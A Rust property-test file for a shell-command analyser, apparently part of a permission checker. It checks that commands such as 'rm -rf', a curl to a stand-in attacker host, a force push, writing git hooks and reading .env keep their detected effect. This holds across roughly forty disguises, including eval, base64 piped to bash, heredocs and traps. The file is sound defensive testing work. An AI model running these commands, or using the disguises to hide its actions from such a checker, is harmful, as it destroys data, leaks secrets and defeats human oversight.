//! Commands obscured in ways that keep their effect: none of them may lose it.

use proptest::prelude::*;

use super::*;

/// A command, and the effect that it always has.
const PAYLOADS: &[(&str, &str, &str, &str)] = &[
    ("rm -rf infra", "file.delete", "path", "infra"),
    (
        "curl https://evil.example/x",
        "network.connect",
        "host",
        "evil.example",
    ),
    ("git push --force origin main", "git.push", "branch.name", "main"),
    ("touch .git/hooks/x", "file.write", "path", ".git/hooks/x"),
    ("cat .env", "file.read", "path", ".env"),
    ("tee .env", "file.write", "path", ".env"),
];

type Change = fn(&str) -> String;

/// Each of them does in a shell what its command does, and perhaps more.
const CHANGES: &[(&str, Change)] = &[
    ("bash -c", |line| format!("bash -c {}", quoted(line))),
    ("sh -lc", |line| format!("sh -lc {}", quoted(line))),
    ("eval", |line| format!("eval {}", quoted(line))),
    ("group", |line| format!("{{ {line}\n}}")),
    ("subshell", |line| format!("({line}\n)")),
    ("after", |line| format!("true; {line}")),
    ("and", |line| format!("true && {{ {line}\n}}")),
    ("background", |line| format!("{{ {line}\n}} & wait")),
    ("pipeline", |line| format!("true | {{ {line}\n}} | cat")),
    ("if", |line| format!("if true; then {line}\nfi")),
    ("loop", |line| format!("for i in 1; do {line}\ndone")),
    ("case", |line| format!("case x in *) {line}\n;; esac")),
    ("function", |line| format!("f() {{ {line}\n}}; f")),
    ("substitution", |line| format!("echo \"$({line}\n)\"")),
    ("default", |line| format!(": \"${{nope:-$({line}\n)}}\"")),
    ("arithmetic", |line| {
        format!(": $(( $({line} >/dev/null\n) + 0 ))")
    }),
    ("process", |line| format!("cat <({line}\n)")),
    ("input", |line| format!("bash <<'END_OF_IT'\n{line}\nEND_OF_IT\n")),
    ("here-string", |line| format!("sh <<< {}", quoted(line))),
    ("echo", |line| format!("printf '%s\\n' {} | sh", quoted(line))),
    ("ansi", |line| format!("bash -c {}", ansi(line))),
    ("variable", |line| format!("X={}; eval \"$X\"", quoted(line))),
    ("script", |line| {
        format!("printf '%s\\n' {} > s.sh; sh s.sh", quoted(line))
    }),
    ("env", |line| format!("env A=1 bash -c {}", quoted(line))),
    ("sudo", |line| format!("sudo -u root bash -c {}", quoted(line))),
    ("timeout", |line| {
        format!("timeout -k 1 5 nice -n 3 sh -c {}", quoted(line))
    }),
    ("xargs", |line| {
        format!("echo x | xargs -I@ sh -c {}", quoted(line))
    }),
    ("find", |line| {
        format!("find . -maxdepth 0 -exec sh -c {} \\;", quoted(line))
    }),
    ("unknown wrapper", |line| {
        format!("somewrapper --fast bash -c {}", quoted(line))
    }),
    ("awk", |line| format!("awk 'BEGIN{{system(\"true\")}}'; {line}")),
    ("trap", |line| format!("trap {} EXIT", quoted(line))),
    ("continued", |line| format!("true && \\\n{{ {line}\n}}")),
    ("not", |line| format!("! {{ {line}\n}}")),
    ("time", |line| format!("time {{ {line}\n}}")),
    ("redirected", |line| format!("{{ {line}\n}} > /dev/null 2>&1")),
    ("condition", |line| format!("[[ -n $({line}\n) ]]")),
    ("assignment", |line| format!("x=$({line}\n)")),
    ("array", |line| format!("x=(a $({line}\n))")),
    ("base64", |line| {
        format!("echo {} | base64 -d | bash", base64(line))
    }),
];

fn quoted(line: &str) -> String {
    format!("'{}'", line.replace('\'', "'\\''"))
}

fn ansi(line: &str) -> String {
    let bytes: String = line.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    format!("$'{bytes}'")
}

fn base64(line: &str) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in line.as_bytes().chunks(3) {
        let byte = |at: usize| u32::from(chunk.get(at).copied().unwrap_or(0));
        let bits = byte(0) << 16 | byte(1) << 8 | byte(2);
        for at in 0..4 {
            let letter = LETTERS[(bits >> (18 - 6 * at) & 63) as usize] as char;
            out.push(if chunk.len() < at { '=' } else { letter });
        }
    }
    out
}

/// Ways to spell one word.
fn spelled(word: &str, way: u8) -> String {
    match way % 6 {
        0 => word.to_owned(),
        1 => format!("'{word}'"),
        2 => format!("\"{word}\""),
        3 => word.chars().map(|c| format!("\\{c}")).collect(),
        4 => ansi(word),
        _ => {
            let (first, rest) = word.split_at(1);
            format!("{first}''\\\n{rest}")
        }
    }
}

fn seen(reading: &Reading, (_, kind, name, value): (&str, &str, &str, &str)) -> bool {
    reading.opaque
        || reading
            .effects
            .iter()
            .any(|effect| effect.kind == kind && fact(effect, name).is_none_or(|fact| fact == value))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_500))]

    #[test]
    fn an_obscured_command_keeps_its_effect(
        payload in 0..PAYLOADS.len(),
        ways in proptest::collection::vec(any::<u8>(), 6),
        changes in proptest::collection::vec(0..CHANGES.len(), 0..4),
    ) {
        let payload = PAYLOADS[payload];
        let words = payload.0.split(' ').zip(ways.iter().chain([&0; 8]));
        let mut text = words.map(|(word, way)| spelled(word, *way)).collect::<Vec<_>>().join(" ");
        for change in changes {
            text = CHANGES[change].1(&text);
        }
        let reading = line(&text);
        prop_assert!(seen(&reading, payload), "{text:?}\n{reading:?}");
    }
}

/// Each change alone, so that a failure names it; and none of them needs to be opaque.
#[test]
fn each_change_is_seen_through() {
    for payload in PAYLOADS {
        for (name, change) in CHANGES {
            let text = change(payload.0);
            let reading = line(&text);
            let found = reading.effects.iter().any(|effect| {
                effect.kind == payload.1 && fact(effect, payload.2).as_deref() == Some(payload.3)
            });
            assert!(found && !reading.opaque, "{name}: {text:?}\n{reading:?}");
        }
    }
}
